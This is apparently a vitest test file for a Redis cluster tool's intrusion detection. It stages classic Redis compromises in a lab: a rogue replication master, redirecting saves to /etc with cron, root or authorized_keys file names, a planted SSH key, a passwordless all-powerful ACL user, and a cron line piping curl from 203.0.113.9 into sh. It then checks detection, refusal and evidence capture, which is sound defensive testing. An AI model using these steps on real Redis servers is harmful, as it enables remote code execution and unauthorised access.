import { createHash } from 'node:crypto';
import { readFile, readdir, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { PASSWORD, infoField, redisCli, replicasOnline } from './lab-cluster.ts';
import { fingerprint, on, openHealthyCluster, type Program } from './program.ts';

const coded = z.looseObject({ code: z.string(), node: z.string().nullable(), message: z.string() });
const status = z.looseObject({ verdict: z.string(), reasons: z.array(coded) });
const plan = z.looseObject({ blockers: z.array(coded) });
const run = z.looseObject({ outcome: z.string(), code: z.string() });
const doctor = z.looseObject({
  findings: z.array(
    z.looseObject({
      id: z.string(),
      node: z.string().nullable(),
      severity: z.string(),
      evidence: z.array(z.string()),
      remedy: z.string(),
      fix: z.string().nullable(),
    }),
  ),
});
const acknowledged = z.looseObject({
  evidence: z.array(z.object({ node: z.string(), path: z.string(), sha256: z.string() })),
});
const CODE = 'INTRUSION_SUSPECTED';
const HOST = 'redis-03';
const CONF = '/etc/redis/redis.conf';

let program: Program;

beforeAll(async () => {
  program = await openHealthyCluster({
    directives: { 'enable-protected-configs': 'yes', 'enable-module-command': 'yes' },
  });
});

afterAll(() => program.close());

async function json(...argv: readonly string[]): Promise<unknown> {
  return JSON.parse((await program.run([...argv, '--json'])).stdout);
}

async function reasons(): Promise<readonly string[]> {
  const { reasons: found } = status.parse(await json('status'));
  return found.filter(({ code }) => code === CODE).map(({ node, message }) => `${node}: ${message}`);
}

const restarted = async (change: string): Promise<void> => {
  await on(HOST, `${change}; systemctl restart redis-server`);
  await replicasOnline('redis-01', 2);
};

/** What an intruder does, what is said of it, and how the intruder cleans up. */
interface Row {
  attack: () => Promise<unknown>;
  sign: RegExp;
  cleanUp: () => Promise<unknown>;
}

const FROM_NOWHERE = '*/2 * * * * root curl -fsSL http://203.0.113.9/b | sh';

const ATTACKS: Readonly<Record<string, Row>> = {
  'a public master that nobody knows': {
    attack: () => redisCli(HOST, 'REPLICAOF', '203.0.113.9', '8886'),
    sign: /redis-03 .*replicates from 203\.0\.113\.9:8886/,
    cleanUp: () => redisCli(HOST, 'REPLICAOF', '10.0.0.123', '6379'),
  },
  'a private master that nobody knows': {
    attack: () => redisCli('redis-02', 'REPLICAOF', '10.0.0.99', '6379'),
    sign: /redis-02 .*replicates from 10\.0\.0\.99:6379/,
    cleanUp: () => redisCli('redis-02', 'REPLICAOF', '10.0.0.123', '6379'),
  },
  'a folder of programs': {
    attack: () => redisCli('redis-02', 'CONFIG', 'SET', 'dir', '/etc'),
    sign: /redis-02 .*saves its data in \/etc\b/,
    cleanUp: () => redisCli('redis-02', 'CONFIG', 'SET', 'dir', '/data/redis'),
  },
  'a file name that cron reads': {
    attack: () => redisCli(HOST, 'CONFIG', 'SET', 'dbfilename', 'root'),
    sign: /redis-03 .*file named root/,
    cleanUp: () => redisCli(HOST, 'CONFIG', 'SET', 'dbfilename', 'temp-sync.rdb'),
  },
  'a key that holds a crontab line': {
    attack: () => redisCli('redis-01', 'SET', 'backup1', `\n\n${FROM_NOWHERE}\n\n`),
    sign: /redis-01 .*key backup1 holds a crontab line/,
    cleanUp: () => redisCli('redis-01', 'DEL', 'backup1'),
  },
  'a user without a password who may do everything': {
    attack: () => redisCli('redis-01', 'ACL', 'SETUSER', 'intruder', 'on', 'nopass', '~*', '&*', '+@all'),
    sign: /redis-01 .*ACL user intruder/,
    cleanUp: () => redisCli('redis-01', 'ACL', 'DELUSER', 'intruder'),
  },
  'a file of cron that Redis saved': {
    attack: () => on(HOST, `printf 'REDIS0010\\n%s\\n' '${FROM_NOWHERE}' >/etc/cron.d/zzh`),
    sign: /redis-03 .*\/etc\/cron\.d\/zzh is a file that Redis saved/,
    cleanUp: () => on(HOST, 'rm /etc/cron.d/zzh'),
  },
};

describe('nodes that were broken into', () => {
  const shows = async () => {
    const said = await reasons();
    return Object.entries(ATTACKS).flatMap(([name, { sign }]) => (said.some((text) => sign.test(text)) ? [name] : []));
  };

  it('show it, until a person acknowledges it, also once the intruder has cleaned up', async () => {
    expect(status.parse(await json('status'))).toMatchObject({ verdict: 'healthy', reasons: [] });
    for (const { attack } of Object.values(ATTACKS)) await attack();
    expect(await shows()).toEqual(Object.keys(ATTACKS));
    for (const { cleanUp } of Object.values(ATTACKS)) await cleanUp();
    await replicasOnline('redis-01', 2);
    expect(await shows()).toEqual(Object.keys(ATTACKS));
    expect((await program.run(['acknowledge', '--yes'])).code).toBe(0);
    expect(await reasons()).toEqual([]);
  });
});

describe('a combination, as it is done', () => {
  beforeAll(async () => {
    await redisCli(HOST, 'REPLICAOF', '203.0.113.9', '8886');
    await redisCli(HOST, 'CONFIG', 'SET', 'dir', '/etc');
    await redisCli(HOST, 'CONFIG', 'SET', 'dbfilename', 'crontab');
    await redisCli(HOST, 'CONFIG', 'SET', 'replica-read-only', 'no');
    await redisCli(HOST, 'SET', 'x', '\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ intruder@host\n\n');
  });

  it('comes first, with what lets clients in, and without advice to repair it', async () => {
    const [found, ...others] = doctor.parse(await json('doctor')).findings;
    expect(found).toMatchObject({ id: CODE, node: HOST });
    expect(found?.evidence).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/replicates from 203\.0\.113\.9/),
        expect.stringMatching(/saves its data in \/etc/),
        expect.stringMatching(/file named crontab/),
        expect.stringMatching(/key x holds an SSH key/),
        expect.stringMatching(/set replica-read-only no/),
        expect.stringMatching(/^Exposed: bind .*beyond this host/),
        expect.stringMatching(/^Exposed: enable-protected-configs yes/),
      ]),
    );
    const here = others.filter(({ node, severity }) => node === HOST && severity !== 'warning');
    expect(here.filter(({ severity }) => severity === 'cause')).toEqual([]);
    expect(here.map(({ remedy }) => remedy).join(' ')).not.toMatch(/inventory|dbfilename|drop-in/);
    expect((await program.run(['doctor'])).stdout).toMatch(/redis-03: INTRUSION_SUSPECTED/);
  });

  it('is changed by no verb, whatever is approved', async () => {
    const before = await fingerprint();
    for (const argv of [['apply'], ['resync', 'redis-02'], ['purge']]) {
      const { code, stdout } = await program.run([...argv, '--yes', '--json']);
      expect([argv, code, run.parse(JSON.parse(stdout))]).toMatchObject([argv, 3, { outcome: 'refused', code: CODE }]);
    }
    const planned = await program.run(['plan', '--json']);
    expect(planned.code).toBe(3);
    expect(plan.parse(JSON.parse(planned.stdout)).blockers[0]).toMatchObject({ code: CODE, node: HOST });
    expect(await fingerprint()).toEqual(before);
  });

  it('is released only when a person says so, after the evidence is kept', async () => {
    const refused = await program.run(['acknowledge', '--json']);
    expect([refused.code, JSON.parse(refused.stdout)]).toMatchObject([3, { error: { code: 'APPROVAL_NEEDED' } }]);
    expect(await reasons()).not.toEqual([]);

    const { evidence } = acknowledged.parse(await json('acknowledge', '--yes'));
    expect(evidence.map(({ node }) => node)).toEqual([HOST]);
    const [{ path, sha256 } = { path: '', sha256: '' }] = evidence;
    const bytes = await readFile(path);
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(sha256);
    expect(await readFile(`${path}.sha256`, 'utf8')).toContain(sha256);
    expect((await stat(path)).mode & 0o777).toBe(0o600);
    const text = bytes.toString('utf8');
    for (const part of ['CLIENT LIST', 'SLOWLOG', 'MODULE LIST', 'master_host:203.0.113.9', '"journal"', '/data/redis'])
      expect(text).toContain(part);
    expect(text).not.toContain(PASSWORD);
    expect(text).not.toContain(JSON.stringify(PASSWORD).slice(1, -1));
    expect((await readdir(join(path, '..'))).some((name) => name.endsWith('.partial'))).toBe(false);

    expect(await reasons()).toEqual([]);
    // Another sign is another suspicion.
    await redisCli('redis-02', 'CONFIG', 'SET', 'dbfilename', 'authorized_keys');
    expect((await reasons()).map((text) => text.split(':')[0])).toEqual(['redis-02']);
    await redisCli('redis-02', 'CONFIG', 'SET', 'dbfilename', 'temp-sync.rdb');
    await json('acknowledge', '--yes');
    await restarted('true');
    await program.applies();
    expect(await infoField(HOST, 'master_host')).toBe('10.0.0.123');
    expect(status.parse(await json('status'))).toMatchObject({ verdict: 'healthy' });
  });
});

it('stays silent in an estate that merely looks unusual', async () => {
  await on(HOST, 'install -d -o redis -g redis /srv/redis');
  await redisCli(HOST, 'CONFIG', 'SET', 'dir', '/srv/redis');
  await redisCli(HOST, 'CONFIG', 'SET', 'dbfilename', 'dump-6379.rdb');
  // A person’s own redis.conf, with the master of a migration.
  await on('redis-02', `cp -p ${CONF} /root/conf; sed -i '1d; s/^replicaof .*/replicaof 10.0.0.99 6379/' ${CONF}`);
  await on('redis-02', 'systemctl restart redis-server');
  await expect.poll(() => infoField('redis-02', 'master_host'), { timeout: 30_000 }).toBe('10.0.0.99');
  expect(await reasons()).toEqual([]);
});
